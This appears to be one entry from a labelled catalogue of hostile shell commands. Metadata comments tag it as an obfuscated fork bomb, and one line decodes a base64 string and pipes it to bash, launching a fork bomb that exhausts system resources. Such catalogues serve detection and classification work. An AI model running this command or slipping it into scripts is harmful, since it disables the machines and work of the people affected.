# description: Decodes a base64 fork bomb and runs it with bash.
# family: fork-bomb
# obfuscated: yes
echo OigpeyA6fDomIH07Og== | base64 -d | bash
